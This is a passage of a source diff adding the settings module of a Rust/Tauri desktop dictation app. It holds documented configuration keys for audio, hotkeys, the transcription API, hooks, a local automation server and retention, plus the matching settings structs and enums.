@@ -0,0 +1,2392 @@
+use crate::api_key::{self, SealedKey};
+use crate::constants::API_BASE_URL;
+use crate::paths;
+use crate::transcript_header;
+use anyhow::{Context, Result, bail};
+use chrono::{DateTime, Utc};
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::str::FromStr;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, RwLock};
+use std::time::{Duration, SystemTime};
+use tauri::{AppHandle, Manager, async_runtime::spawn};
+use tauri_plugin_global_shortcut::Shortcut;
+
+/// Bump this whenever a change to `Settings` needs a `Settings::migrate` step
+pub const SETTINGS_VERSION: u32 = 2;
+
+/// Upgrades the raw TOML of a settings file by one version
+type Migration = fn(&mut toml::Table) -> Result<()>;
+
+/// `MIGRATIONS[i]` upgrades a file from version `i + 1` to `i + 2`.
+/// Never edit an existing entry, append a new one instead.
+const MIGRATIONS: &[Migration] = &[migrate_v1_to_v2];
+
+/// Set when the settings file comes from a newer version of the app, so we never
+/// overwrite values we don't understand
+static READ_ONLY: AtomicBool = AtomicBool::new(false);
+
+/// Set when the settings file failed to load and the app runs on defaults. Saving
+/// would replace the user's file with those defaults, so nothing is saved until the
+/// file loads again.
+static LOAD_FAILED: AtomicBool = AtomicBool::new(false);
+
+/// Polish styles the backend knows without a prompt from `[[prompts]]`
+const BUILT_IN_STYLES: &[&str] = &["default"];
+
+const SETTINGS_FILE: &str = "settings.toml";
+const LEGACY_SHORTCUTS_FILE: &str = "shortcuts.json";
+const WATCH_INTERVAL: Duration = Duration::from_secs(2);
+
+/// Comments written above each key when the settings file is generated
+const FIELD_DOCS: &[(&str, &str)] = &[
+    ("version", "Schema version of this file. Do not edit by hand."),
+    ("[audio]", "Microphone capture"),
+    (
+        "audio.gain",
+        "Multiplier applied to every captured sample (0.1 - 10.0)",
+    ),
+    (
+        "audio.keep_warm",
+        "Keep the microphone open between recordings so the first word isn't clipped. \
+         The OS microphone indicator stays on while the app runs",
+    ),
+    (
+        "audio.input_device",
+        "Name of the input device to record from. Unset uses the system default",
+    ),
+    (
+        "audio.input_channel",
+        "Record only this channel of the input device, counting from 1, e.g. for an \
+         audio interface with the microphone on input 1. Unset records every channel, \
+         which the backend mixes down",
+    ),
+    (
+        "audio.high_pass",
+        "Filter out low rumble, like traffic or a desk being bumped, before upload",
+    ),
+    (
+        "audio.high_pass_hz",
+        "Frequency the high-pass filter cuts below (20 - 500). Voices start around 80",
+    ),
+    (
+        "audio.noise_suppression",
+        "Turn down steady background noise, like a fan, in the pauses between speech",
+    ),
+    (
+        "audio.spill_after_secs",
+        "Move audio older than this many seconds to a temp file while recording, so \
+         long dictations don't grow in memory. 0 keeps the whole recording in memory",
+    ),
+    (
+        "audio.warn_if_muted",
+        "Warn when the first second of a recording is complete silence, as from a \
+         hardware mute switch",
+    ),
+    (
+        "audio.avoid_bluetooth_mic",
+        "Record from the built-in microphone when the input is a Bluetooth headset, so \
+         the headset doesn't drop to its low quality hands-free mode. Only on Macs \
+         that have a built-in microphone",
+    ),
+    ("[hotkeys]", "Global shortcuts, e.g. \"CmdOrCtrl+Option+R\""),
+    ("hotkeys.toggle_recording", "Start/stop a recording"),
+    (
+        "hotkeys.cleanse_clipboard",
+        "Polish the text currently in the clipboard",
+    ),
+    (
+        "hotkeys.push_to_talk",
+        "Record while held, transcribe on release. Empty disables it",
+    ),
+    (
+        "hotkeys.cycle_clipboard",
+        "Copy the previous transcript or polish, further back on each press. Empty disables it",
+    ),
+    (
+        "hotkeys.discard_recording",
+        "Stop the current recording without transcribing it. Empty disables it",
+    ),
+    (
+        "hotkeys.panic",
+        "Stop everything at once: discard any recording, drop transcriptions and \
+         polishes before they're pasted and reset the icon. Empty disables it",
+    ),
+    (
+        "hotkeys.repeat_last",
+        "Run the last polish or clipboard prompt again, as it was run. Empty disables it",
+    ),
+    (
+        "hotkeys.quick_note",
+        "Start/stop a recording that's appended to the quick note file instead of the \
+         usual output. Empty disables it",
+    ),
+    (
+        "hotkeys.collect",
+        "Start collecting transcripts, and deliver them as one text on the next press. \
+         Empty disables it",
+    ),
+    (
+        "hotkeys.type_boost_modifier",
+        "Hold with toggle_recording, e.g. \"Shift\", to type that transcription \
+         instead of the usual output. Empty disables it",
+    ),
+    ("[api]", "Transcription backend"),
+    ("api.base_url", "Base URL of the transcription API"),
+    ("api.timeout_secs", "Seconds to wait for a response before giving up"),
+    (
+        "api.max_concurrency",
+        "Most requests sent to the API at once. Others wait for a free slot",
+    ),
+    (
+        "api.upload_format",
+        "How recordings are sent to /transcribe: \"raw\" WAV body, \"multipart\" form \
+         with a `file` field as OpenAI-style servers expect, or \"json_base64\" for \
+         {\"audio\": \"<base64>\"}",
+    ),
+    (
+        "api.pause_on_quota_error",
+        "Stop sending requests once the account runs out of credit, until resumed from the tray",
+    ),
+    (
+        "api.retry_on_empty",
+        "Ask once more when a recording that clearly had sound comes back as an empty \
+         transcript, which some backends do now and then",
+    ),
+    (
+        "api.prewarm",
+        "Connect to the API when a recording starts, so the upload doesn't wait for \
+         DNS and the TLS handshake when it stops",
+    ),
+    (
+        "api.model",
+        "Transcription model to ask the backend for. Empty leaves it to the backend, \
+         anything else turns off `quality.auto`",
+    ),
+    (
+        "api.compression",
+        "How recordings are compressed before they're uploaded: \"auto\" leaves it to \
+         `quality.auto`, \"off\" always sends WAV and \"opus\" always sends Ogg Opus, \
+         about a tenth of the size. Anything but \"auto\" turns off `quality.auto`",
+    ),
+    (
+        "api.max_polish_tokens",
+        "Largest text sent to be polished in one request, in tokens estimated \
+         generously from its length. Keep it well under the model's context window, \
+         0 for no limit",
+    ),
+    (
+        "api.over_polish_limit",
+        "What to do with longer text: \"refuse\" with a notification, or \"chunk\" to \
+         polish it a few paragraphs at a time and join the results",
+    ),
+    ("[notifications]", "Desktop notifications"),
+    ("notifications.enabled", "Show notifications at all"),
+    (
+        "notifications.on_success",
+        "Notify when a transcription or polish is ready",
+    ),
+    (
+        "[sounds]",
+        "Short sounds when recording starts and stops, and when a transcription is \
+         delivered or fails",
+    ),
+    ("sounds.enabled", "Play the sounds at all"),
+    ("sounds.volume", "Playback volume (0.0 - 1.0)"),
+    (
+        "sounds.start",
+        "Path to a WAV, MP3, Ogg Vorbis or FLAC file to play instead of the built-in \
+         start sound. Empty uses the built-in one, as do files that can't be played",
+    ),
+    ("sounds.stop", "Same as `sounds.start`, for when recording stops"),
+    (
+        "sounds.success",
+        "Same as `sounds.start`, for when a transcription is delivered",
+    ),
+    (
+        "sounds.error",
+        "Same as `sounds.start`, for when a transcription or delivery fails",
+    ),
+    ("[behavior]", "General behavior"),
+    (
+        "behavior.pause_media",
+        "Pause Spotify while recording and resume afterwards",
+    ),
+    (
+        "behavior.pause_media_delay_ms",
+        "Only pause media once a recording has run this long, so quick dictations don't stutter it",
+    ),
+    (
+        "behavior.idle_quit_minutes",
+        "Quit the app after this many minutes without a recording or polish. 0 disables it",
+    ),
+    (
+        "behavior.output_mode",
+        "Where transcriptions go: \"clipboard\", \"paste\", \"type\" or \"quick_note\" \
+         to append them to the `[quick_note]` file",
+    ),
+    (
+        "behavior.trailing_separator",
+        "Appended to every transcription, e.g. \" \" to keep typing after it",
+    ),
+    (
+        "behavior.polish_style",
+        "Style the backend should polish text in, \"default\" or the name of a prompt",
+    ),
+    (
+        "behavior.polish_paste_back",
+        "What polish does before pasting or typing its result: \"paste\" it at the \
+         cursor, \"undo\" `polish_undo_count` times first to take back the pasted \
+         original, or start a new line and paste it \"below\" the original",
+    ),
+    (
+        "behavior.polish_undo_count",
+        "How many undo steps take back the original with `polish_paste_back = \"undo\"`. \
+         Some editors record a paste as several steps",
+    ),
+    (
+        "behavior.password_fields",
+        "When the cursor is in a password field, \"clipboard\" leaves the text on the \
+         clipboard instead of pasting or typing it, \"deliver\" pastes or types anyway. \
+         Only fields that report themselves as secure are detected (macOS)",
+    ),
+    (
+        "behavior.polish_in_detected_language",
+        "Ask for polished text in the language the transcription was detected in, \
+         instead of English",
+    ),
+    (
+        "behavior.polish_language",
+        "Language code to always ask for polished text in, e.g. \"de\" or \"pt-BR\". \
+         Takes precedence over `behavior.polish_in_detected_language`",
+    ),
+    (
+        "behavior.preserve_formatting",
+        "Tell the backend when text being polished looks like Markdown or code, so \
+         its formatting is kept",
+    ),
+    (
+        "behavior.rich_text",
+        "Copy polished text that has Markdown formatting as HTML too, so apps like \
+         Mail or Slack paste it formatted. Plain transcriptions are never converted",
+    ),
+    (
+        "behavior.push_to_talk_min_hold_ms",
+        "Push-to-talk holds shorter than this are discarded instead of transcribed",
+    ),
+    (
+        "behavior.quick_tags",
+        "Tags offered in the tray to label the latest history entry",
+    ),
+    (
+        "behavior.privacy_mode",
+        "Keep transcripts out of logs, history and notifications. The clipboard still gets them",
+    ),
+    (
+        "behavior.linux_primary_selection",
+        "Linux only: polish the primary selection (the middle-click buffer) and put \
+         results there instead of in the clipboard. Paste mode fills both",
+    ),
+    (
+        "behavior.max_output_chars",
+        "Longest transcription delivered as is, in characters. 0 means no limit",
+    ),
+    (
+        "behavior.over_length",
+        "What to do past `max_output_chars`: \"truncate\" with a marker, \"split\" to \
+         deliver the start and save the full text to a file, or \"refuse\" and only notify",
+    ),
+    (
+        "behavior.launch_at_login",
+        "Start the app when you log in to your computer",
+    ),
+    (
+        "behavior.open_window_on_relaunch",
+        "Opening the app while it's already running shows its window instead of a \
+         notification",
+    ),
+    (
+        "behavior.on_sleep",
+        "What happens to a recording cut short by the computer sleeping: \"transcribe\" \
+         the audio captured before sleep once it wakes, or \"discard\" it",
+    ),
+    (
+        "behavior.pick_target",
+        "Ask which app to send a transcript to before pasting or typing it, instead of \
+         using whatever is focused. Cancelling copies it to the clipboard only. Linux \
+         needs X11 and wmctrl",
+    ),
+    ("[filler]", "Filler words such as \"um\" and \"uh\" in transcriptions"),
+    (
+        "filler.drop_filler_only",
+        "Treat a transcription made up only of filler words as no speech",
+    ),
+    (
+        "filler.strip_edges",
+        "Remove filler words from the start and end of a transcription",
+    ),
+    ("filler.words", "Words considered filler (case-insensitive)"),
+    (
+        "[snippets]",
+        "Spoken phrases replaced by longer text before delivery, e.g.\n\
+         # [snippets.phrases]\n\
+         # \"sign off\" = \"Best regards,\\nAlex\"",
+    ),
+    ("snippets.enabled", "Expand snippets in transcriptions"),
+    (
+        "[voice_commands]",
+        "Spoken commands like \"new line\" or \"comma\" turned into what they stand \
+         for before delivery",
+    ),
+    (
+        "voice_commands.enabled",
+        "Replace command phrases. Off by default, since words like \"period\" are \
+         also used normally",
+    ),
+    (
+        "voice_commands.escape",
+        "Said before a command to keep its words, e.g. \"literally new line\"",
+    ),
+    (
+        "voice_commands.commands",
+        "Phrase to what it's replaced with, matched as whole words ignoring case. \
+         Replace these to dictate commands in another language",
+    ),
+    (
+        "[session]",
+        "Dictation sessions, started from the tray, transcribe after every pause until stopped",
+    ),
+    (
+        "session.silence_threshold",
+        "Input level from 0.0 to 1.0 below which the microphone counts as silent",
+    ),
+    (
+        "session.silence_ms",
+        "How long a pause has to last before the speech before it is transcribed",
+    ),
+    (
+        "session.max_segment_secs",
+        "Speech running longer than this without a pause is cut and transcribed anyway. \
+         0 only cuts at pauses",
+    ),
+    (
+        "session.overlap_ms",
+        "Audio from the end of a segment cut mid-speech that is sent again with the next \
+         one, so the word it splits isn't lost. The repeated words are dropped",
+    ),
+    (
+        "session.chunk_recordings",
+        "The record hotkey starts a dictation session instead, so long recordings are \
+         transcribed and pasted as you go. Takes more API calls",
+    ),
+    (
+        "session.separator",
+        "Added after each transcribed piece so they don't run together",
+    ),
+    (
+        "session.show_window",
+        "Show what the session transcribed so far in a small window that stays on top",
+    ),
+    (
+        "[collect]",
+        "Collecting, started from the tray or `hotkeys.collect`, holds back each \
+         transcript and delivers them together when it's finished",
+    ),
+    (
+        "collect.separator",
+        "Put between the collected transcripts when they're joined",
+    ),
+    ("collect.polish", "Polish the joined text once before it's delivered"),
+    (
+        "[quality]",
+        "Picking the transcription model and upload by how long a recording is. \
+         Ignored while `api.model` or `api.compression` is set",
+    ),
+    (
+        "quality.auto",
+        "Use `fast_model` for short recordings, where waiting matters most, and \
+         `accurate_model` for long ones, which are also compressed to Opus and \
+         uploaded in parts",
+    ),
+    (
+        "quality.fast_model",
+        "Model for recordings under `short_secs`. Empty leaves it to the backend",
+    ),
+    (
+        "quality.accurate_model",
+        "Model for recordings over `long_secs`. Empty leaves it to the backend",
+    ),
+    (
+        "quality.short_secs",
+        "Recordings shorter than this are transcribed fast",
+    ),
+    (
+        "quality.long_secs",
+        "Recordings longer than this are transcribed accurately",
+    ),
+    (
+        "[live]",
+        "Live dictation types the transcript into the focused app while the push-to-talk \
+         key is held, correcting it as more is heard",
+    ),
+    (
+        "live.enabled",
+        "Use live dictation for push-to-talk instead of transcribing on release",
+    ),
+    (
+        "live.partial_interval_ms",
+        "How often the recording so far is transcribed. Each update sends the whole \
+         recording again, so lower values cost more",
+    ),
+    (
+        "[wake]",
+        "Hands-free start and stop by saying a phrase. Heard on this computer only, \
+         nothing is sent anywhere until a recording starts",
+    ),
+    (
+        "wake.enabled",
+        "Listen for the start phrase while idle and the stop phrase while recording. \
+         Teach both from the tray first. Off in privacy mode and while requests are \
+         paused after a quota error",
+    ),
+    (
+        "wake.start_phrase",
+        "What you say to start recording, shown when teaching it",
+    ),
+    (
+        "wake.stop_phrase",
+        "What you say to stop recording. Cut from the end of the transcript",
+    ),
+    (
+        "wake.sensitivity",
+        "From 0 to 1. Higher reacts to looser matches, and to other speech more often",
+    ),
+    (
+        "[watch_folder]",
+        "Audio files that appear in a folder are transcribed on their own, with the \
+         transcript written next to each one",
+    ),
+    (
+        "watch_folder.folder",
+        "Absolute path of the folder to watch. Empty turns watching off",
+    ),
+    ("watch_folder.output", "\"txt\" or \"md\" for the transcript file"),
+    (
+        "watch_folder.max_attempts",
+        "Times a file is tried before it's skipped for good",
+    ),
+    (
+        "[automation]",
+        "A local HTTP server for Shortcuts, Automator and scripts, e.g. \
+         `curl -H \"Authorization: Bearer <token>\" http://127.0.0.1:47891/toggle`. \
+         Endpoints: /toggle, /polish, /cancel, /status and /last-transcript",
+    ),
+    (
+        "automation.enabled",
+        "Serve the endpoints. Only this computer can reach them",
+    ),
+    ("automation.port", "Port on 127.0.0.1 to listen on"),
+    (
+        "automation.token",
+        "Secret every request must send as `Authorization: Bearer <token>`, at least \
+         16 characters",
+    ),
+    (
+        "[hook]",
+        "Runs after every transcription or polish is delivered, in the background. \
+         Never runs in privacy mode",
+    ),
+    (
+        "hook.kind",
+        "\"off\", \"http\" to POST {\"text\", \"timestamp\", \"duration_ms\", \
+         \"language\", \"kind\"} as JSON to `url`, or \"command\" to run `command` \
+         with the text on stdin",
+    ),
+    ("hook.url", "http(s) URL for the \"http\" hook"),
+    (
+        "hook.command",
+        "Shell command for the \"command\" hook, run with `sh -c` (`cmd /C` on \
+         Windows)",
+    ),
+    ("hook.timeout_secs", "Seconds before a hook attempt is given up on"),
+    ("hook.retries", "Extra attempts after a failed one"),
+    ("[updates]", "Checking for new versions of the app"),
+    (
+        "updates.enabled",
+        "Check for updates in the background. Nothing is downloaded until you pick \
+         \"Download & install\" in the tray",
+    ),
+    ("updates.channel", "\"stable\" or \"beta\" for pre-release builds"),
+    ("updates.check_interval_hours", "Hours between update checks"),
+    ("[retention]", "How long to keep data around. 0 keeps it forever"),
+    (
+        "retention.save_recordings",
+        "Keep each recording as a WAV in the recordings folder, next to a JSON file \
+         with its transcript, model, language and timings. Never in privacy mode",
+    ),
+    ("retention.recordings_days", "Days to keep saved recordings"),
+    (
+        "retention.history_days",
+        "Days to keep transcription history. Pinned entries are never deleted",
+    ),
+    ("retention.logs_days", "Days to keep log files"),
+    (
+        "retention.disk_budget_mb",
+        "Space recordings may take before the oldest are deleted. 0 disables the limit",
+    ),
+    (
+        "retention.keep_last_recording",
+        "Keep the last recording in memory so \"Retry last recording\" can send it \
+         again. Never written to disk, dropped on quit and never kept in privacy mode",
+    ),
+    (
+        "retention.keep_last_recording_mb",
+        "Largest recording kept for a retry. A longer one isn't kept",
+    ),
+    (
+        "[logging]",
+        "The log file, reachable from the tray's \"Open log folder\"",
+    ),
+    (
+        "logging.level",
+        "One of \"error\", \"warn\", \"info\", \"debug\" or \"trace\"",
+    ),
+    (
+        "logging.max_file_mb",
+        "Start a new log file past this size, compressing the old one. 0 never rotates",
+    ),
+    ("logging.keep_files", "Compressed old log files to keep"),
+    (
+        "logging.log_transcripts",
+        "Write transcript and clipboard text to the log instead of only its size. \
+         Ignored in privacy mode",
+    ),
+    (
+        "logging.format",
+        "\"text\" or \"json\" for one JSON object per line in the log file. The \
+         console always gets text",
+    ),
+    (
+        "[quick_note]",
+        "A Markdown file transcriptions can be appended to, e.g. a daily note",
+    ),
+    (
+        "quick_note.path",
+        "File to append to, created if missing. {YYYY}, {MM}, {DD} and {YYYY-MM-DD} \
+         are replaced with today's date and a leading ~ with your home folder",
+    ),
+    (
+        "quick_note.heading",
+        "Written above each note, with strftime codes like %H:%M for the time",
+    ),
+    (
+        "[transcript_header]",
+        "A line about the recording written above its transcript, e.g. \
+         \"[2024-06-01 14:32, 1m12s]\"",
+    ),
+    (
+        "transcript_header.format",
+        "{date}, {time}, {duration}, {device}, {language}, {sample_rate} and {model} \
+         are filled in, left empty when unknown",
+    ),
+    (
+        "transcript_header.quick_note",
+        "Add the header to notes appended with the quick_note output mode",
+    ),
+    (
+        "transcript_header.append_file",
+        "Add the header to text written by `append_file` sinks",
+    ),
+    (
+        "transcript_header.history_export",
+        "Add the header to recordings in Markdown history exports",
+    ),
+    (
+        "transcript_header.output",
+        "Also add it to text copied, pasted or typed",
+    ),
+    (
+        "[[sinks]]",
+        "Where transcriptions are delivered, in order. `kind` is one of:\n\
+         #   \"output\"      - clipboard, paste or type according to `behavior.output_mode`\n\
+         #   \"append_file\" - append to the file at `target`\n\
+         #   \"webhook\"     - POST {\"text\": ...} as JSON to the URL at `target`",
+    ),
+    ("sinks.enabled", "Turn this sink on or off without removing it"),
+    (
+        "prompts",
+        "Prompt library. Add entries as [[prompts]] tables, see below",
+    ),
+    (
+        "[[prompts]]",
+        "A named custom polish prompt. `action` is one of:\n\
+         #   \"clipboard\"  - rewrite the text in the clipboard\n\
+         #   \"transcript\" - record, then rewrite the transcript before it is delivered\n\
+         # Entries with an empty prompt or a clashing hotkey are skipped",
+    ),
+    ("prompts.hotkey", "Optional global shortcut that runs this prompt"),
+    ("prompts.in_tray", "List this prompt in the tray's Prompts menu"),
+    (
+        "prompts.rich_text",
+        "Copy this prompt's results as HTML too, overriding `behavior.rich_text`",
+    ),
+    (
+        "[app_overrides]",
+        "Per-application behavior keyed by bundle id (macOS) or executable name, e.g.\n\
+         # [app_overrides.\"com.tinyspeck.slackmacgap\"]\n\
+         # output_mode = \"paste\"\n\
+         # trailing_separator = \" \"\n\
+         # polish_paste_back = \"below\"",
+    ),
+];
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct Settings {
+    pub version: u32,
+    pub audio: AudioSettings,
+    pub hotkeys: HotkeySettings,
+    pub api: ApiSettings,
+    pub notifications: NotificationSettings,
+    pub sounds: SoundSettings,
+    pub behavior: BehaviorSettings,
+    pub filler: FillerSettings,
+    pub snippets: SnippetSettings,
+    pub voice_commands: VoiceCommandSettings,
+    pub session: SessionSettings,
+    pub collect: CollectSettings,
+    pub quality: QualitySettings,
+    pub live: LiveSettings,
+    pub wake: WakeSettings,
+    pub watch_folder: WatchFolderSettings,
+    pub automation: AutomationSettings,
+    pub hook: HookSettings,
+    pub quick_note: QuickNoteSettings,
+    pub transcript_header: TranscriptHeaderSettings,
+    pub updates: UpdateSettings,
+    pub retention: RetentionSettings,
+    pub logging: LoggingSettings,
+    pub sinks: Vec<SinkSettings>,
+    pub prompts: Vec<PromptSettings>,
+    pub app_overrides: BTreeMap<String, AppOverride>,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct AudioSettings {
+    pub gain: f32,
+    pub keep_warm: bool,
+    pub input_device: Option<String>,
+    pub input_channel: Option<u16>,
+    pub high_pass: bool,
+    pub high_pass_hz: f32,
+    pub noise_suppression: bool,
+    pub spill_after_secs: u64,
+    pub warn_if_muted: bool,
+    pub avoid_bluetooth_mic: bool,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct HotkeySettings {
+    pub toggle_recording: String,
+    pub cleanse_clipboard: String,
+    pub push_to_talk: String,
+    pub cycle_clipboard: String,
+    pub discard_recording: String,
+    pub panic: String,
+    pub repeat_last: String,
+    pub quick_note: String,
+    pub collect: String,
+    pub type_boost_modifier: String,
+}
+
+impl HotkeySettings {
+    /// Every configured hotkey with its settings key, leaving out disabled ones
+    pub fn named(&self) -> Vec<(&'static str, String)> {
+        let mut named = vec![
+            ("toggle_recording", self.toggle_recording.clone()),
+            ("cleanse_clipboard", self.cleanse_clipboard.clone()),
+        ];
+        if !self.push_to_talk.is_empty() {
+            named.push(("push_to_talk", self.push_to_talk.clone()));
+        }
+        if !self.cycle_clipboard.is_empty() {
+            named.push(("cycle_clipboard", self.cycle_clipboard.clone()));
+        }
+        if !self.discard_recording.is_empty() {
+            named.push(("discard_recording", self.discard_recording.clone()));
+        }
+        if !self.panic.is_empty() {
+            named.push(("panic", self.panic.clone()));
+        }
+        if !self.repeat_last.is_empty() {
+            named.push(("repeat_last", self.repeat_last.clone()));
+        }
+        if !self.quick_note.is_empty() {
+            named.push(("quick_note", self.quick_note.clone()));
+        }
+        if !self.collect.is_empty() {
+            named.push(("collect", self.collect.clone()));
+        }
+        if let Some(type_boost) = self.type_boost() {
+            named.push(("type_boost_modifier", type_boost));
+        }
+        named
+    }
+
+    /// `toggle_recording` with the boost modifier added, if there is one
+    pub fn type_boost(&self) -> Option<String> {
+        match self.type_boost_modifier.trim() {
+            "" => None,
+            modifier => Some(format!("{modifier}+{}", self.toggle_recording)),
+        }
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ApiSettings {
+    pub base_url: String,
+    pub timeout_secs: u64,
+    pub max_concurrency: usize,
+    pub upload_format: UploadFormat,
+    pub pause_on_quota_error: bool,
+    pub retry_on_empty: bool,
+    pub prewarm: bool,
+    pub model: String,
+    pub compression: Compression,
+    pub max_polish_tokens: usize,
+    pub over_polish_limit: OverPolishLimit,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum OverPolishLimit {
+    /// Don't send it and say how long it is
+    Refuse,
+    /// Polish it in parts split at paragraph breaks
+    Chunk,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Compression {
+    /// Compressed when `quality.auto` picks the accurate plan
+    Auto,
+    /// Always WAV
+    Off,
+    /// Always Ogg Opus
+    Opus,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum UploadFormat {
+    /// The WAV file as the request body
+    Raw,
+    /// Form upload with the WAV in a `file` field
+    Multipart,
+    /// `{"audio": "<base64 WAV>", "format": "wav"}`
+    JsonBase64,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct NotificationSettings {
+    pub enabled: bool,
+    pub on_success: bool,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct SoundSettings {
+    pub enabled: bool,
+    pub volume: f32,
+    pub start: String,
+    pub stop: String,
+    pub success: String,
+    pub error: String,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct BehaviorSettings {
+    pub pause_media: bool,
+    pub pause_media_delay_ms: u64,
+    pub idle_quit_minutes: u64,
+    pub output_mode: OutputMode,
+    pub trailing_separator: String,
+    pub polish_style: String,
+    pub polish_paste_back: PolishPasteBack,
+    pub polish_undo_count: usize,
+    pub password_fields: PasswordFields,
+    pub polish_in_detected_language: bool,
+    pub polish_language: Option<String>,
+    pub preserve_formatting: bool,
+    pub rich_text: bool,
+    pub push_to_talk_min_hold_ms: u64,
+    pub quick_tags: Vec<String>,
+    pub privacy_mode: bool,
+    /// Ignored on other platforms
+    pub linux_primary_selection: bool,
+    pub max_output_chars: usize,
+    pub over_length: OverLength,
+    pub launch_at_login: bool,
+    pub open_window_on_relaunch: bool,
+    /// Also applies when the screen locks, on macOS
+    pub on_sleep: SleepAction,
+    pub pick_target: bool,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum SleepAction {
+    Transcribe,
+    Discard,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum OverLength {
+    Truncate,
+    /// Deliver the truncated text and write the full one to a file
+    Split,
+    /// Deliver nothing, the transcription is still in history
+    Refuse,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum OutputMode {
+    /// Only copy to the clipboard
+    Clipboard,
+    /// Copy to the clipboard and paste into the focused app
+    Paste,
+    /// Type the text into the focused app as keystrokes
+    Type,
+    /// Append to the `[quick_note]` file, leaving the clipboard alone
+    QuickNote,
+}
+
+/// What happens to the original text when polish pastes or types its result
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum PolishPasteBack {
+    /// Paste at the cursor, leaving the original alone
+    Paste,
+    /// Undo first, replacing an original that was just pasted
+    Undo,
+    /// Start a new line after the original and paste there
+    Below,
+}
+
+/// What happens to text headed for a password field by paste or typing
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum PasswordFields {
+    /// Leave it on the clipboard and say why
+    Clipboard,
+    /// Paste or type it like anywhere else
+    Deliver,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct SnippetSettings {
+    pub enabled: bool,
+    /// Trigger phrase to the text it expands to
+    pub phrases: BTreeMap<String, String>,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct SessionSettings {
+    pub silence_threshold: f32,
+    pub silence_ms: u64,
+    pub max_segment_secs: u64,
+    pub overlap_ms: u64,
+    pub chunk_recordings: bool,
+    pub separator: String,
+    pub show_window: bool,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct VoiceCommandSettings {
+    pub enabled: bool,
+    pub escape: String,
+    /// Spoken phrase to the text it stands for
+    pub commands: BTreeMap<String, String>,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct CollectSettings {
+    pub separator: String,
+    pub polish: bool,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct QualitySettings {
+    pub auto: bool,
+    pub fast_model: String,
+    pub accurate_model: String,
+    pub short_secs: u64,
+    pub long_secs: u64,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct LiveSettings {
+    pub enabled: bool,
+    pub partial_interval_ms: u64,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct WakeSettings {
+    pub enabled: bool,
+    pub start_phrase: String,
+    pub stop_phrase: String,
+    pub sensitivity: f32,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct WatchFolderSettings {
+    pub folder: String,
+    pub output: TranscriptFormat,
+    pub max_attempts: u32,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum TranscriptFormat {
+    Txt,
+    Md,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct AutomationSettings {
+    pub enabled: bool,
+    pub port: u16,
+    pub token: String,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct HookSettings {
+    pub kind: HookKind,
+    pub url: String,
+    pub command: String,
+    pub timeout_secs: u64,
+    pub retries: u32,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum HookKind {
+    Off,
+    Http,
+    Command,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct QuickNoteSettings {
+    pub path: String,
+    pub heading: String,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct TranscriptHeaderSettings {
+    pub format: String,
+    pub quick_note: bool,
+    pub append_file: bool,
+    pub history_export: bool,
+    pub output: bool,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct UpdateSettings {
+    pub enabled: bool,
+    pub channel: ReleaseChannel,
+    pub check_interval_hours: u64,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ReleaseChannel {
+    Stable,
+    Beta,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
